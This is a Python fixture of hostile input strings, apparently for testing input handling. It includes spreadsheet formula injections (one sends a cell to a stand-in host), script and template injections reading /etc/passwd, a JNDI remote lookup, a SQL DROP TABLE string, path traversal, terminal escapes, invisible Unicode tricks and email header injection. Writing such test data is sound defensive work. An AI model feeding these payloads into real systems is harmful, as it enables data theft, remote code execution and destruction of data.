"""Texts that make trouble somewhere: in a spreadsheet, a page, a letter, a terminal, a query."""

FORMULAS = {
    "formula": "=1+1",
    "formula that calls": "=cmd|'/C calc'!A0",
    "formula with a link": '=HYPERLINK("http://elsewhere.example/?"&A1,"Wren")',
    "formula after plus": "+1+cmd|'/C calc'!A0",
    "formula after minus": "-2+3+cmd|'/C calc'!A0",
    "formula after at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula after a tab": "\t=1+1",
}

MARKUP = {
    "script": "<script>alert(1)</script>",
    "image that fails": '"><img src=x onerror=alert(1)>',
    "end of a text": "</textarea></title></style></script><svg onload=alert(1)>",
    "link that runs": "<a href='javascript:alert(1)'>Wren</a>",
    "template": "{{ 7|add:7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "typst": '#read("/etc/passwd") #import "@preview/x:1.0.0" $ * _ ` \\',
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "look-up": "${jndi:ldap://elsewhere.example/a}",
    "entity": "&lt;script&gt; &#x3c;script&#x3e; &xxe;",
}

UNSEEN = {
    "right to left": "Wren \u202egnp.exe",
    "isolate left open": "\u2067Wren\u2066",
    "no width": "W\u200br\u200be\u2060n",
    "byte order mark within": "Wr\ufeffen",
    "escape of a terminal": "Wren\x1b[2J\x1b]0;gone\x07",
    "bell and backspace": "Wren\x07\x08\x08",
    "high controls": "Wren\x80\x9b31m",
    "line separators": "Wren\u2028\u2029\x85\x0b\x0c",
}

ODD = {
    "quote of a query": "'; DROP TABLE people_pupil; --",
    "way up": "../../../../etc/passwd",
    "percent": "%s%n%(name)s{0}{name}",
    "heaped accents": "W" + "\u0301" * 60 + "ren",
    "outside the plane": "𝖂𝖗𝖊𝖓 👩‍👧‍👦",
    "never a character": "Wren\ufffe\uffff",
    "mojibake": "ZoÃ« OâBrien",
    "null in words": "NULL nil None undefined NaN",
    "header of a letter": "Wren Subject: hello Bcc: all@elsewhere.example",
    "long word": "W" * 190,
    "too long": "W" * 5_000,
}

TEXTS = FORMULAS | MARKUP | UNSEEN | ODD
"""Each can be written in UTF-8, in a cell of a CSV, in XML (but controls) and in JSON."""
